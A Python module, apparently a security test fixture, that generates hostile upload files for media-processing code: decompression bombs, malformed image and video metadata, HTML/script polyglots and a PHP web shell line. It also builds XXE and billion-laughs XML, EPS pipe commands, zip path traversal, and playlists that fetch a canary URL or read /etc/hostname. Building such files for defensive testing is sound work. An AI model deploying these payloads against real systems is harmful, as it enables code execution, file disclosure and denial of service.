"""Files that mean harm, by name: bombs, polyglots, playlists, lies, damage. Made when asked for."""

import io
import json
import pickle
import struct
import subprocess
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import imageio_ffmpeg
import numpy as np
from PIL import Image, ImageCms

from . import heif

FILES: dict[str, Callable[[], bytes]] = {}
BIG = 8900  # side of a picture that is just small enough [px]
CANARY = (
    "http://127.0.0.1:65009/canary"  # what a playlist would fetch; the test puts its own port here
)
SECRET = "/etc/hostname"  # what it would read


def add(files: dict[str, bytes | Callable[[], bytes]]) -> None:
    for name, data in files.items():
        FILES[name] = data if callable(data) else lambda data=data: data


# ---- Pictures ----


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int,
    height: int,
    depth=8,
    color=2,
    rows: bytes | None = None,
    *before: bytes,
    interlaced=0,
    after=(),
) -> bytes:
    """A PNG of zeros, or of any filtered rows, with chunks before and after its pixels."""
    if rows is None:
        channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[color]
        rows = bytes(1 + (width * depth * channels + 7) // 8) * height
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, interlaced))
    body = b"".join(before) + chunk(b"IDAT", zlib.compress(rows)) + b"".join(after)
    return b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND")


def small(format: str, mode="RGB", side=64, **options) -> bytes:
    y, x = np.mgrid[:side, :side]
    picture = Image.fromarray(np.uint8(np.stack([x * 3, y * 3, x + y], -1))).convert(mode)
    out = io.BytesIO()
    picture.save(out, format, **options)
    return out.getvalue()


def blank(format: str, mode: str, **options) -> bytes:
    """As large as may be."""
    out = io.BytesIO()
    Image.new(mode, (BIG, BIG)).save(out, format, **options)
    return out.getvalue()


def moving(format: str, count=3, **options) -> bytes:
    frames = [Image.new("RGB", (64, 64), (40 * i % 256, 90, 10)) for i in range(count)]
    out = io.BytesIO()
    frames[0].save(out, format, save_all=True, append_images=frames[1:], **options)
    return out.getvalue()


def gif(width: int, height: int, frames: bytes) -> bytes:
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6) + frames + b";"


def gif_frame(width: int, height: int) -> bytes:
    return b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00"


def tiff(*tags: tuple[int, int, int, int], end=0, after=b"") -> bytes:
    """Entries (tag, kind, count, value) of one directory."""
    body = b"".join(struct.pack("<HHII", *tag) for tag in sorted(tags))
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + body + struct.pack("<I", end) + after


def tiff_of(width, height, bits=8, samples=1, compression=1, strips=1, size=64) -> bytes:
    return tiff(
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, bits),
        (259, 3, 1, compression),
        (262, 3, 1, 1),
        (273, 4, strips, 200),
        (277, 3, 1, samples),
        (278, 4, 1, height),
        (279, 4, strips, size),
        after=bytes(400),
    )


def jpeg_segment(kind: int, data: bytes) -> bytes:
    return bytes([0xFF, kind]) + struct.pack(">H", len(data) + 2) + data


def jpeg_with(*segments: bytes, data: bytes | None = None) -> bytes:
    data = data or small("JPEG")
    return data[:2] + b"".join(segments) + data[2:]


def jpeg_sized(width: int, height: int) -> bytes:
    data = small("JPEG")
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def passes(side: int, count: int, between: bytes = b"") -> bytes:
    """A progressive JPEG whose last, tiny pass over all pixels comes again and again."""
    out = io.BytesIO()
    Image.new("L", (side, side), 90).save(out, "JPEG", progressive=True, quality=50)
    data = out.getvalue()
    last = between + data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * count + b"\xff\xd9"


def exif(*tags: tuple[int, int, int, int], end=0) -> bytes:
    return b"Exif\0\0" + tiff(*tags, end=end)


TURNED = (0x0112, 3, 1, 6)  # the entry of a camera that was held on its side


def overlapping(count: int, size: int, *tags: tuple[int, int, int, int]) -> bytes:
    """A directory with `count` further entries that all name the same `size` bytes."""
    at = 8 + 2 + 12 * (count + len(tags)) + 4
    entries = [(0x8000 + number, 7, size, at) for number in range(count)]
    return tiff(*tags, *entries, after=bytes(size))


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def lab_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()


add(
    {
        # bombs: as large as may be, and larger
        "bomb-grey-1.png": lambda: png(BIG, BIG, 1, 0),
        "bomb-rgb.png": lambda: png(BIG, BIG),
        "bomb-rgba-16.png": lambda: png(BIG, BIG, 16, 6),
        "bomb-grey-16.png": lambda: png(BIG, BIG, 16, 0),
        "bomb-palette.png": lambda: png(
            BIG, BIG, 1, 3, None, chunk(b"PLTE", bytes(6)), chunk(b"tRNS", b"\0")
        ),
        "bomb-interlaced.png": lambda: png(BIG, BIG, 1, 0, None, interlaced=1),
        "bomb-profile.png": lambda: png(
            BIG,
            BIG,
            8,
            2,
            None,
            chunk(
                b"iCCP",
                b"x\0\0"
                + zlib.compress(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()),
            ),
        ),
        "wide.png": lambda: png(2_400_000, 33, 1, 0),
        "tall.png": lambda: png(33, 2_400_000, 1, 0),
        "huge.png": lambda: png(30_000, 30_000, rows=bytes(1000)),
        "huger.png": lambda: png(2**31 - 1, 2**31 - 1, rows=bytes(1000)),
        "line.png": lambda: png(80_000_000, 1, 1, 0),
        "zero-sides.png": lambda: png(0, 0, rows=b""),
        "few-rows.png": lambda: png(640, 640, rows=bytes(1000)),
        "many-rows.png": lambda: png(64, 64, rows=bytes(100_000_000)),
        "text-bomb.png": lambda: png(
            64, 64, 8, 2, None, chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(200_000_000)))
        ),
        "text-bombs.png": lambda: png(
            64, 64, 8, 2, None, *[chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(900_000)))] * 200
        ),
        "profile-bomb.png": lambda: png(
            64, 64, 8, 2, None, chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(200_000_000)))
        ),
        "late-text-bomb.png": lambda: png(
            64, 64, after=[chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(200_000_000)))]
        ),
        "chunks.png": lambda: png(64, 64, 8, 2, None, chunk(b"abCd") * 1_000_000),
        "late-chunks.png": lambda: png(64, 64, after=[chunk(b"abCd") * 1_000_000]),
        "texts.png": lambda: png(64, 64, 8, 2, None, chunk(b"tEXt", b"a\0b") * 300_000),
        "no-pixels.png": b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0))
        + chunk(b"IEND"),
        "two-heads.png": lambda: png(
            64,
            64,
            8,
            2,
            None,
            chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)),
        ),
        "long-chunk.png": lambda: png(64, 64)[:33] + b"\xff\xff\xff\xffIDAT" + bytes(100),
        "no-palette.png": lambda: png(64, 64, 8, 3),
        "kind-7.png": lambda: png(64, 64)[:25] + b"\x07" + png(64, 64)[26:],
        "apng-none.png": lambda: png(64, 64, 8, 2, None, chunk(b"acTL", struct.pack(">II", 0, 0))),
        "apng-many.png": lambda: png(
            64, 64, 8, 2, None, chunk(b"acTL", struct.pack(">II", 2**31, 0))
        ),
        "apng-outside.png": lambda: png(
            64,
            64,
            8,
            2,
            None,
            chunk(b"acTL", struct.pack(">II", 2, 0)),
            chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 9999, 9999, 9999, 9999, 0, 0, 9, 9)),
        ),
        "apng-early.png": lambda: png(
            64, 64, 8, 2, None, chunk(b"fdAT", b"\0\0\0\1" + zlib.compress(bytes(99)))
        ),
        "apng-order.png": lambda: moving("PNG").replace(b"\0\0\0\1", b"\0\0\0\x09"),
        "apng-cut.png": lambda: moving("PNG", 9)[:-60],
        "bomb.gif": lambda: gif(BIG, BIG, gif_frame(BIG, BIG)),
        "huge.gif": lambda: gif(65535, 65535, gif_frame(65535, 65535)),
        "canvas.gif": lambda: gif(65535, 65535, gif_frame(8, 8)),
        "outside.gif": lambda: gif(64, 64, gif_frame(65535, 1000)),
        "frames.gif": lambda: gif(64, 64, gif_frame(64, 64) * 100_000),
        "large-frames.gif": lambda: gif(8000, 4000, gif_frame(8000, 4000) * 5_000),
        "comments.gif": lambda: gif(64, 64, b"\x21\xfe\x01A\0" * 2_000_000 + gif_frame(64, 64)),
        "comment.gif": lambda: gif(
            64, 64, b"\x21\xfe" + (b"\xff" + b"A" * 255) * 60_000 + b"\0" + gif_frame(64, 64)
        ),
        "no-frames.gif": gif(64, 64, b""),
        "no-end.gif": gif(64, 64, gif_frame(64, 64))[:-1],
        "code-size.gif": gif(64, 64, b"," + struct.pack("<HHHHB", 0, 0, 64, 64, 0) + b"\xff\x01\0"),
        "huge.webp": b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\xff\xff\xff\x0f" + bytes(9),
        "canvas.webp": b"RIFF\x30\0\0\0WEBPVP8X\x0a\0\0\0\x02\0\0\0\xff\xff\xff\xff\xff\xff"
        b"ANIM\x06\0\0\0" + bytes(6),
        "bomb.webp": lambda: blank("WEBP", "RGB", lossless=True),
        "cut.webp": lambda: moving("WEBP")[:-80],
        "half.webp": lambda: (d := moving("WEBP", 9))[: len(d) // 2],
        "frames.webp": lambda: moving("WEBP", 400),
        "long.webp": lambda: small("WEBP").replace(b"VP8 ", b"VP8 \xff\xff\xff\xff", 1),
        "huge.tif": tiff_of(100_000, 100_000),
        "bomb.tif": lambda: blank("TIFF", "1", compression="group4"),
        "bomb-deflate.tif": lambda: blank("TIFF", "CMYK", compression="tiff_adobe_deflate"),
        "strips.tif": tiff_of(640, 640, strips=2**30),
        "samples.tif": tiff_of(640, 640, samples=65535),
        "bits.tif": tiff_of(640, 640, bits=64),
        "lzw.tif": tiff_of(8000, 8000, compression=5, size=300),
        "jpeg.tif": tiff_of(640, 640, compression=7, size=300),
        "circle.tif": tiff((256, 4, 1, 64), (257, 4, 1, 64), end=8),
        "counts.tif": tiff((256, 4, 2**32 - 1, 64), (257, 4, 1, 64), (270, 2, 2**32 - 1, 8)),
        "far.tif": b"II*\0\xff\xff\xff\xff",
        "nan.tif": lambda: _floats(np.nan),
        "infinite.tif": lambda: _floats(np.inf),
        "huge.bmp": b"BM"
        + struct.pack("<IIIIiiHHIIIIII", 100, 0, 54, 40, 50_000, 50_000, 1, 24, 0, 0, 0, 0, 0, 0)
        + bytes(46),
        "negative.bmp": b"BM"
        + struct.pack("<IIIIiiHHIIIIII", 100, 0, 54, 40, -64, -64, 1, 24, 0, 0, 0, 0, 0, 0)
        + bytes(46),
        "rle.bmp": b"BM"
        + struct.pack("<IIIIiiHHIIIIII", 100, 0, 1078, 40, 8000, 8000, 1, 8, 1, 0, 0, 0, 256, 0)
        + bytes(1024)
        + b"\xff\x01" * 200_000,
        "far.bmp": b"BM"
        + struct.pack("<IIIIiiHHIIIIII", 100, 0, 2**32 - 1, 40, 64, 64, 1, 24, 0, 0, 0, 0, 0, 0)
        + bytes(46),
        "huge.ppm": b"P6 99999 99999 255\n" + bytes(100),
        "plain.ppm": lambda: b"P3 2400 2500 255\n" + b"0 " * 18_000_000,
        "comments.ppm": lambda: b"P6\n" + b"#\n" * 3_000_000 + b"64 64 255\n" + bytes(12_288),
        "digits.ppm": b"P6 " + b"9" * 5000 + b" 64 255\n" + bytes(100),
        "maximum.ppm": b"P6 64 64 0\n" + bytes(12_288),
        "nan.pfm": b"Pf 64 64 nan\n" + bytes(16_384),
        "huge.jpg": lambda: jpeg_sized(65500, 65500),
        "flat.jpg": lambda: jpeg_sized(65500, 33),
        "zero.jpg": lambda: jpeg_sized(0, 0),
        "unfinished.jpg": lambda: jpeg_sized(8000, 8000),
        "passes.jpg": lambda: passes(4000, 5000),
        "few-passes.jpg": lambda: passes(8800, 35),
        "comments.jpg": lambda: jpeg_with(b"\xff\xfe\0\2" * 2_000_000),
        "fill.jpg": lambda: jpeg_with(b"\xff" * 5_000_000),
        "cut.jpg": lambda: small("JPEG")[:400],
        "head-only.jpg": b"\xff\xd8\xff\xe0",
        "restarts.jpg": lambda: small("JPEG", side=640)[:900] + b"\xff\xd0" * 100_000,
        "arithmetic.jpg": lambda: small("JPEG").replace(b"\xff\xc0", b"\xff\xc9"),
        "lossless.jpg": lambda: small("JPEG").replace(b"\xff\xc0", b"\xff\xc3"),
        "mpo.jpg": lambda: jpeg_with(jpeg_segment(0xE2, b"MPF\0" + tiff((45057, 4, 1, 2**31)))),
        # what cameras and profiles say
        "exif-circle.jpg": lambda: jpeg_with(jpeg_segment(0xE1, exif((0x8769, 4, 1, 8), end=8))),
        "exif-counts.jpg": lambda: jpeg_with(jpeg_segment(0xE1, exif((0x0112, 3, 2**32 - 1, 6)))),
        "exif-turned.jpg": lambda: jpeg_with(jpeg_segment(0xE1, exif((0x0112, 3, 1, 65535)))),
        "exif-text.jpg": lambda: jpeg_with(jpeg_segment(0xE1, exif((0x0112, 2, 4, 0x41414141)))),
        "exif-kind.jpg": lambda: jpeg_with(jpeg_segment(0xE1, exif((0x0112, 255, 1, 6)))),
        "exif-far.jpg": lambda: jpeg_with(jpeg_segment(0xE1, b"Exif\0\0II*\0\xff\xff\xff\xff")),
        "exif-many.jpg": lambda: jpeg_with(
            jpeg_segment(0xE1, exif(*[(i, 4, 1, 8) for i in range(5000)]))
        ),
        "exif-gps.jpg": lambda: jpeg_with(jpeg_segment(0xE1, exif((0x8825, 4, 1, 2**31)))),
        "exif-empty.png": lambda: png(64, 64, 8, 2, None, chunk(b"eXIf")),
        "exif-circle.png": lambda: png(
            64, 64, 8, 2, None, chunk(b"eXIf", tiff((0x8769, 4, 1, 8), end=8))
        ),
        "exif-overlaps.jpg": lambda: jpeg_with(
            *(
                jpeg_segment(0xE1, b"Exif\0\0" + block[at : at + 60_000])
                for block in [overlapping(1500, 1_200_000, TURNED)]
                for at in range(0, len(block), 60_000)
            )
        ),
        "exif-overlaps.png": lambda: png(
            64, 64, 8, 2, None, chunk(b"eXIf", overlapping(1500, 1_200_000, TURNED))
        ),
        "exif-overlaps-text.png": lambda: png(
            64,
            64,
            8,
            2,
            None,
            chunk(
                b"zTXt",
                b"Raw profile type exif\0\0"
                + zlib.compress(
                    b"\nexif\n1\n"
                    + (b"Exif\0\0" + overlapping(9000, 250_000, TURNED)).hex().encode()
                ),
            ),
        ),
        "exif-overlaps.webp": lambda: small(
            "WEBP", exif=b"Exif\0\0" + overlapping(1500, 1_200_000, TURNED)
        ),
        "overlaps.tif": lambda: overlapping(
            1500, 1_200_000, (256, 4, 1, 64), (257, 4, 1, 64), (273, 4, 1, 0), TURNED
        ),
        "icc-empty.jpg": lambda: jpeg_with(jpeg_segment(0xE2, b"ICC_PROFILE\0\1\1")),
        "icc-long.jpg": lambda: jpeg_with(
            jpeg_segment(0xE2, b"ICC_PROFILE\0\1\1\xff\xff\xff\xff" + b"acsp" * 200)
        ),
        "icc-parts.jpg": lambda: jpeg_with(jpeg_segment(0xE2, b"ICC_PROFILE\0\xff\1" + bytes(128))),
        "icc-lab.jpg": lambda: small("JPEG", icc_profile=lab_profile()),
        "icc-random.png": lambda: small("PNG", icc_profile=np.random.default_rng(0).bytes(4096)),
        "icc-cut.png": lambda: small("PNG", icc_profile=lab_profile()[:200]),
        "icc-huge-tags.png": lambda: small(
            "PNG", icc_profile=lab_profile()[:128] + b"\xff\xff\xff\xff" + bytes(400)
        ),
        "xmp.jpg": lambda: jpeg_with(
            jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x" + b"<a>" * 20_000)
        ),
    }
)


def _floats(value: float) -> bytes:
    values, out = np.full((64, 64), 0.5, np.float32), io.BytesIO()
    values[3:9] = value
    Image.fromarray(values).save(out, "TIFF")
    return out.getvalue()


# ---- HEIF and AVIF ----


def heic_claiming(width: int, height: int) -> bytes:
    """A small picture that says it is larger."""
    item = heif.coded(_gradient())
    item.properties = [p for p in item.properties if p[4:8] != b"ispe"]
    item.properties.append(heif.size(width, height))
    return heif.heic(item)


def heic_of_tiles(rows: int, columns: int, width: int, height: int, side=64) -> bytes:
    """One tile, again and again."""
    count, picture = rows * columns, _gradient().repeat(side // 64, 0).repeat(side // 64, 1)
    tiles = [heif.coded(picture, hidden=True)] * count
    tiles.append(heif.grid(rows, columns, width, height, [*range(1, count + 1)]))
    return heif.heic(*tiles, primary=count + 1)


def heic_in_circles() -> bytes:
    """A grid of itself."""
    return heif.heic(heif.coded(_gradient()), heif.grid(1, 1, 64, 64, [2]), primary=2)


def heic_of_items(count: int) -> bytes:
    return heif.heic(*[heif.coded(_gradient())] * count)


def _gradient() -> np.ndarray:
    y, x = np.mgrid[:64, :64]
    return np.uint8(np.stack([x * 3, y * 3, x + y], -1))


def avif_sized(width: int, height: int) -> bytes:
    data = small("AVIF")
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", width, height) + data[at + 8 :]


add(
    {
        "bomb.heic": lambda: heic_of_tiles(17, 17, 8704, 8704, 512),
        "tiles.heic": lambda: heic_of_tiles(100, 100, 6400, 6400),
        "huge.heic": lambda: heic_of_tiles(1, 1, 60_000, 60_000),
        "claims.heic": lambda: heic_claiming(8000, 8000),
        "claims-more.heic": lambda: heic_claiming(2**31, 2**31),
        "circle.heic": heic_in_circles,
        "items.heic": lambda: heic_of_items(2_000),
        "cut.heic": lambda: (d := heif.heic(heif.coded(_gradient())))[: len(d) * 8 // 10],
        "head.heic": heif.box(b"ftyp", b"heic", bytes(4), b"mif1heic"),
        "no-pixels.heic": lambda: heif.heic(heif.Item(b"hvc1", b"", [heif.size(64, 64)])),
        "noise.heic": lambda: (
            heif.box(b"ftyp", b"heic", bytes(4)) + np.random.default_rng(3).bytes(100_000)
        ),
        "boxes.heic": lambda: heif.box(b"ftyp", b"heic", bytes(4)) + box(b"free") * 1_000_000,
        "nested.heic": lambda: heif.box(b"ftyp", b"heic", bytes(4)) + nested(5_000),
        "exif.heic": lambda: heif.heic(
            heif.coded(_gradient()), heif.exif(b"Exif\0\0" + overlapping(1500, 1_200_000, TURNED))
        ),
        "profile.heic": lambda: heif.heic(heif.coded(_gradient(), heif.profile(bytes(5_000_000)))),
        "heic.jpg": lambda: heif.heic(heif.coded(_gradient())) + b"\xff\xd8\xff" * 99,
        "claims.avif": lambda: avif_sized(8000, 8000),
        "huge.avif": lambda: avif_sized(2**31 - 1, 2**31 - 1),
        "bomb.avif": lambda: blank("AVIF", "RGB", speed=10, subsampling="4:2:0", quality=1),
        "cut.avif": lambda: small("AVIF")[:-90],
        "frames.avif": lambda: moving("AVIF", 100, speed=10),
        "exif.avif": lambda: small("AVIF", exif=b"Exif\0\0" + overlapping(50, 90_000, TURNED)),
        "deep-bomb.tif": lambda: deep_tiff(BIG, BIG),
        "deep-cut.tif": lambda: deep_tiff(640, 640)[:-400],
        "deep-claims.tif": tiff_of(8000, 8000, bits=16),
        "cut-end.jpg": lambda: small("JPEG")[:-2],
        "cut-zeros.jpg": lambda: small("JPEG", side=640)[:9_000] + bytes(5_000_000),
        "cut-passes.jpg": lambda: passes(4000, 30)[:-200],
    }
)


def deep_tiff(width: int, height: int) -> bytes:
    """A TIFF of zeros in 16 bits a channel."""
    data = zlib.compress(bytes(6 * width * height))
    return tiff(
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 16),
        (259, 3, 1, 8),
        (262, 3, 1, 2),
        (273, 4, 1, 200),
        (277, 3, 1, 3),
        (278, 4, 1, height),
        (279, 4, 1, len(data)),
        after=bytes(200 - 8 - 2 - 12 * 9 - 4) + data,
    )


# ---- Two things at once, and things that are no pictures ----

HTML = b"<!doctype html><script>fetch('/gradio_api/info')</script><h1>hello</h1>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)
)
add(
    {
        "script.gif": b"GIF89a/*" + small("GIF")[8:] + b"*/=1;alert(1)",
        "html.gif": b"GIF89a<script>alert(1)</script>",
        "html-in-comment.jpg": lambda: jpeg_with(jpeg_segment(0xFE, HTML)),
        "html-behind.png": lambda: small("PNG") + HTML,
        "html-in-text.png": lambda: png(64, 64, 8, 2, None, chunk(b"tEXt", b"a\0" + HTML)),
        "script.bmp": lambda: small("BMP").replace(b"BM", b"BM", 1) + b"*/alert(1)",
        "php.jpg": lambda: jpeg_with(jpeg_segment(0xFE, b"<?php system($_GET['c']); ?>")),
        "pdf.jpg": lambda: jpeg_with(
            jpeg_segment(0xFE, b"%PDF-1.4\n1 0 obj\n<</OpenAction 2 0 R>>")
        ),
        "pdf-first.jpg": lambda: b"%PDF-1.4\n" + small("JPEG"),
        "zip.png": lambda: small("PNG") + zipped({"../../evil.py": b"import os"}),
        "zip-bomb.png": lambda: small("PNG") + zipped({"zeros": bytes(100_000_000)}),
        "zip-named.png": lambda: zipped({"../../evil.png": small("PNG")}),
        "script-in.webp": lambda: small("WEBP", exif=b"Exif\0\0<script>alert(1)</script>"),
        "plain.html": HTML,
        "html.jpg": HTML,
        "svg.jpg": SVG + b"<script>alert(1)</script></svg>",
        "plain.svg": SVG + b'<image xlink:href="file://' + SECRET.encode() + b'"/></svg>',
        "svg-laughs.png": LAUGHS + b"]>" + SVG + b"&j;</svg>",
        "xml-entity.jpg": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET}">]><x>&e;</x>'.encode(),
        "plain.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n(/tmp/pwned) (w) file\n",
        "eps.jpg": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n%pipe%touch /tmp/pwned\n",
        "photoshop.png": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 300_000, 300_000, 8, 3),
        "icon.png": lambda: small("ICO"),
        "jpeg2000.jpg": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200),
        "avif.png": b"\0\0\0\x20ftypavif" + bytes(200),
        "fits.png": b"SIMPLE  =                    T" + bytes(2880),
        "pcx.png": b"\x0a\x05\x01\x08" + struct.pack("<HHHH", 0, 0, 65535, 65535) + bytes(120),
        "targa.jpg": struct.pack("<BBBHHBHHHHBB", 0, 0, 10, 0, 0, 0, 0, 0, 65535, 65535, 24, 0),
        "program.png": b"\x7fELF\x02\x01\x01" + bytes(500),
        "shell.jpg": b"#!/bin/sh\ntouch /tmp/pwned\n",
        "gzip.png": lambda: zlib.compress(bytes(100_000_000)),
        "letter.jpg": b"I am a letter.",
        "empty.png": b"",
        "empty.mp4": b"",
        "empty.csv": b"",
        "empty.json": b"",
        "byte.jpg": b"\xff",
        "zeros.png": bytes(1_000_000),
        "ones.mp4": b"\xff" * 1_000_000,
        "noise.jpg": lambda: np.random.default_rng(1).bytes(1_000_000),
        "noise.mp4": lambda: b"\0\0\0\x18ftypisom" + np.random.default_rng(2).bytes(500_000),
        "spaces.csv": b" \n" * 1000,
        "mark.json": b"\xef\xbb\xbf",
    }
)


# ---- Films ----


def filmed(form: str, *options: str, source="testsrc=s=64x48:r=10:d=1") -> bytes:
    """A film of a second, by ffmpeg."""
    mp4 = ["-movflags", "faststart", "-pix_fmt", "yuv420p"] if form == "mp4" else []
    with tempfile.NamedTemporaryFile() as out:
        command = [
            imageio_ffmpeg.get_ffmpeg_exe(),
            "-v",
            "error",
            "-y",
            "-f",
            "lavfi",
            "-i",
            source,
        ]
        subprocess.run([*command, *options, *mp4, "-f", form, out.name], check=True)
        return Path(out.name).read_bytes()


def with_words(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    return data.replace(old, new)


def box(kind: bytes, data: bytes = b"", size: int | None = None) -> bytes:
    return struct.pack(">I", len(data) + 8 if size is None else size) + kind + data


def nested(depth: int) -> bytes:
    data = b""
    for _ in range(depth):
        data = box(b"moov", data)
    return data


def lying() -> bytes:
    """A Matroska film of two frames 50 minutes apart, which says it lasts half a second."""
    gap = ["-vf", "setpts='if(eq(N,1),3000/TB,N/10/TB)'", "-fps_mode", "passthrough"]
    return lasting(500.0, filmed("matroska", *gap, source="testsrc=s=64x48:r=10:d=0.2"))


def lasting(milliseconds: float, data: bytes | None = None) -> bytes:
    data = data or filmed("matroska")
    at = data.index(b"\x44\x89\x88") + 3
    return data[:at] + struct.pack(">d", milliseconds) + data[at + 8 :]


def referring() -> bytes:
    """A QuickTime film whose samples lie in another file."""
    data = filmed("mp4")
    at = data.index(b"url \0\0\0\1")
    return data[:at] + b"url \0\0\0\0" + data[at + 8 :]


PLAYLIST = f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{CANARY}\n#EXTINF:9,\n{SECRET}\n"
KEYED = f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{CANARY}"\n#EXTINF:9,\n{SECRET}\n'
add(
    {
        "playlist.m3u8": PLAYLIST.encode(),
        "playlist.mp4": PLAYLIST.encode(),
        "playlist-marked.mp4": b"\xef\xbb\xbf" + PLAYLIST.encode(),
        "playlist.jpg": PLAYLIST.encode(),
        "playlist.csv": PLAYLIST.encode(),
        "playlist-key.mp4": KEYED.encode(),
        "playlist-behind.avi": lambda: filmed("avi", "-c:v", "mjpeg") + PLAYLIST.encode(),
        "gab2.avi": lambda: (
            with_words(filmed("avi", "-c:v", "mjpeg"), b"vids", b"txts")
            + b"GAB2\0\2\0"
            + PLAYLIST.encode()
        ),
        "list.ffconcat": f"ffconcat version 1.0\nfile {SECRET}\nfile {CANARY}\n".encode(),
        "concat.mp4": f"ffconcat version 1.0\nfile {SECRET}\n".encode(),
        "concat-old.mp4": f"file '{SECRET}'\n".encode(),
        "protocol.mp4": f"concat:{SECRET}|{CANARY}".encode(),
        "dash.mpd": b'<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet>'
        b"<Representation><BaseURL>" + CANARY.encode() + b"</BaseURL></Representation>"
        b"</AdaptationSet></Period></MPD>",
        "session.sdp": b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\n"
        b"m=video 65009 RTP/AVP 96\n",
        "reference.asf": f"[Reference]\nRef1={CANARY}\n".encode(),
        "window.asx": f'<asx version="3.0"><entry><ref href="{CANARY}"/></entry></asx>'.encode(),
        "list.pls": f"[playlist]\nFile1={CANARY}\n".encode(),
        "smile.smil": f'<smil><body><video src="{CANARY}"/></body></smil>'.encode(),
        "stream.rtsp": b"RTSPtext\nrtsp://127.0.0.1:65009/canary",
        "script.avs": f'FFmpegSource2("{SECRET}")'.encode(),
        "graph.mp4": f"movie={SECRET}".encode(),
        "subtitles.mp4": f"1\n00:00:00,000 --> 00:00:09,000\n<img src={CANARY}>\n".encode(),
        "metadata.mp4": b";FFMETADATA1\ntitle=x\n",
        "movie.mov": box(
            b"moov",
            box(
                b"rmra",
                box(
                    b"rmda",
                    box(
                        b"rdrf",
                        bytes(4)
                        + b"url "
                        + struct.pack(">I", len(CANARY) + 1)
                        + CANARY.encode()
                        + b"\0",
                    ),
                ),
            ),
        ),
        "samples-elsewhere.mov": referring,
        "attached.mkv": lambda: filmed("matroska").replace(b"Lavf", b"file") + PLAYLIST.encode(),
        # lies and damage
        "cut-10.mp4": lambda: (d := filmed("mp4"))[: len(d) // 10],
        "cut-30.mp4": lambda: (d := filmed("mp4"))[: len(d) * 3 // 10],
        "cut-60.mp4": lambda: (d := filmed("mp4"))[: len(d) * 6 // 10],
        "cut-95.mp4": lambda: (d := filmed("mp4"))[: len(d) * 95 // 100],
        "cut.mkv": lambda: (d := filmed("matroska"))[: len(d) // 2],
        "cut.webm": lambda: (d := filmed("webm", "-c:v", "libvpx"))[: len(d) // 3],
        "cut.avi": lambda: (d := filmed("avi", "-c:v", "mjpeg"))[: len(d) // 2],
        "cut.ts": lambda: (d := filmed("mpegts"))[100 : len(d) // 2],
        "huge.avi": lambda: with_words(
            filmed("avi", "-c:v", "mjpeg"),
            struct.pack("<II", 64, 48),
            struct.pack("<II", 100_000, 100_000),
        ),
        "huge.mp4": lambda: with_words(
            filmed("mp4"), struct.pack(">HH", 64, 48), struct.pack(">HH", 65535, 65535)
        ),
        "huge.mkv": lambda: with_words(
            filmed("matroska"), b"\xb0\x81\x40\xba\x81\x30", b"\xb0\x82\xff\xff\xba\x80"
        ),
        "raw-huge.avi": lambda: with_words(
            filmed("avi", "-c:v", "rawvideo", "-pix_fmt", "yuv420p"),
            struct.pack("<II", 64, 48),
            struct.pack("<II", 100_000, 100_000),
        ),
        "largest.avi": lambda: filmed(
            "avi", "-c:v", "mjpeg", source="color=s=8000x4400:r=10:d=0.4"
        ),
        "changing.ts": lambda: (
            filmed("mpegts") + filmed("mpegts", source="testsrc=s=1920x1080:d=0.3")
        ),
        "lying.mkv": lying,
        "nan.mkv": lambda: lasting(float("nan")),
        "infinite.mkv": lambda: lasting(float("inf")),
        "negative.mkv": lambda: lasting(-1e300),
        "thin.mp4": lambda: filmed("mp4", "-vf", "setsar=65535/1"),
        "flat.mkv": lambda: filmed("matroska", "-vf", "setsar=1/65535"),
        "fast.mkv": lambda: filmed("matroska", source="testsrc=s=64x48:r=1000:d=1"),
